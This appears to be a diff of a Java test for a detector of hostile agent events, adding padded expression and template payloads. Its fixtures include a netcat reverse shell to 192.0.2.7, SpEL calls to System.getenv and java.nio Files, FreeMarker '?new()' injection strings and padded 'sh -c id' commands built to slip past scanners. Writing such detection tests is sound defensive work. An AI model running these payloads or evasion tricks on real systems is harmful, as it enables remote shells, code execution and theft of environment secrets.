@@ -70,11 +70,20 @@ class PaddedTextTest {
         arguments(REVERSE, started(MARKS + "\nnc 192.0.2.7 -e /bin/sh")),
         arguments(TYPE, script(MARKS + ".concat(T(java.lang.System).getenv())")),
         arguments(TYPE, script(MARKS + ".concat(T(System).getenv())")),
+        arguments(TYPE, script(MARKS + ".concat(T(java nio file Files))")),
+        arguments(TYPE, script("T(".repeat(1_900) + "(T (.java" + " .".repeat(60) + "nio)")),
+        arguments(TYPE, script("T" + "\0".repeat(3_900) + "(java nio)")),
         arguments(
             TYPE, script("new" + " ".repeat(3_950) + "String('a').concat(T(java.lang.System))")),
         arguments(
             "Expression that Reaches for the Runtime",
             script(MARKS + "; Java.type('java.nio.file.Files')")),
+        arguments(
+            "Expression that Reaches for the Runtime",
+            template("\\".repeat(3_900) + "${('a'+'b')?new()}")),
+        arguments(
+            "Expression that Reaches for the Runtime",
+            template("\\ab".repeat(1_300) + "${'\\x0061'?new()}")),
         arguments(SHELL, started("env" + " A=".repeat(2_700) + " sh -c id")),
         arguments(SHELL, started("find" + " a".repeat(4_000) + " -exec /bin/sh -c id ;")),
         arguments(SHELL, started("env sh -c id " + "/".repeat(8_000))),
@@ -107,6 +116,10 @@ class PaddedTextTest {
 
   private static AgentEvent script(String source) {
     return forRequest(EventType.SCRIPT_EVAL, "r1", "engine", "spel", "source", source);
+  }
+
+  private static AgentEvent template(String source) {
+    return forRequest(EventType.SCRIPT_EVAL, "r1", "engine", "freemarker", "source", source);
   }
 
   private static AgentEvent started(String command) {
